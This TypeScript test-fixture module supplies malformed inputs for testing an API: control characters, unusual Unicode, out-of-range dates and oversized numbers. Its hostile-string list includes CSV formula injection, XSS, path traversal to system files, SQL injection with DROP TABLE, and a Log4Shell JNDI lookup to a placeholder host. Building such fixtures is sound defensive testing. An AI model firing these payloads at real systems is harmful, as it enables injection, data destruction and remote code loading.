import { RawNumber } from './oracle.ts'

/**
 * Text an attacker, a broken client or a careless paste sends: control characters, line
 * breaks, odd Unicode, and strings other systems (spreadsheets, browsers, shells, SQL) would
 * read as commands. Long strings are made per field, from its maxLength.
 */
export const hostileStrings: readonly string[] = [
  'a\u0000b',
  '\u0000',
  'ring\u0007bell',
  '\u001b[31mred',
  'back\bspace',
  'a\u007fb',
  'next\u0085line',
  '\u009b2J',
  'line one\nline two',
  'line one\r\nline two',
  '\r',
  'tab\tseparated',
  'para\u2028graph',
  'half \ud83d pair',
  '\udc00',
  '😀👍🏽 emoji',
  'Zoë Ñandú Ærøskøbing',
  'مرحبا بالعالم',
  '\u202egnp.exe',
  'e\u0301\u0301\u0301',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '\ufeffbom',
  '\u200b',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|',
  '@SUM(A1)',
  '-2+3',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f',
  '%00',
  "' OR '1'='1' --",
  "'; DROP TABLE customers; --",
  'Robert"); SELECT pg_sleep(1); --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection string, on purpose
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%s%n',
  '\\',
  ' ',
  '',
  'null',
  'true',
  '[]',
  '{}',
  'NaN',
  '-1',
]

/** Long text for a field: at its limit (fine) and one past it (refused). */
export function longStrings(maxLength: number | undefined): string[] {
  const limit = maxLength ?? 20_000
  return ['é'.repeat(limit), `${'x'.repeat(limit)}y`]
}

/** Dates at and past the edges of the calendar and of the contract's years. */
export const extremeDates: readonly string[] = [
  '0000-01-01',
  '9999-12-31',
  '1899-12-31',
  '2201-01-01',
  '1900-01-01',
  '2200-12-31',
  '2026-02-30',
  '2026-13-01',
  '2026-00-10',
  '+002026-01-01',
  '-000001-01-01',
  '20260101',
]

export const extremeDateTimes: readonly string[] = [
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '1899-12-31T23:59:59Z',
  '2201-01-01T00:00:00Z',
  '1900-01-01T00:00:00Z',
  '2200-12-31T23:59:59+14:00',
  '2026-06-30T23:59:60Z',
  '2026-03-01T24:00:00Z',
  '2026-03-01T09:00:00',
  '2026-03-01T09:00:00+25:00',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-03-01',
  '1e10',
]

/** Numbers at, past and far past the edges, some only writable as raw JSON. */
export function extremeNumbers(minimum = 0, maximum = 1_000_000): (number | RawNumber)[] {
  return [
    minimum,
    maximum,
    minimum - 1,
    maximum + 1,
    -1,
    1.5,
    2 ** 31,
    2 ** 53,
    -(2 ** 53),
    1e308,
    new RawNumber('1e400'),
    new RawNumber('-1e400'),
    new RawNumber('-0'),
    new RawNumber('1.0'),
    new RawNumber('1E2'),
  ]
}

/** The same, as query or path text. */
export function extremeNumberTexts(minimum = 0, maximum = 1_000_000): string[] {
  return [
    String(minimum),
    String(maximum),
    String(minimum - 1),
    String(maximum + 1),
    '1.5',
    '1e400',
    '99999999999999999999999',
    '-99999999999999999999999',
    'NaN',
    'Infinity',
    '0x10',
    'abc',
    '',
  ]
}
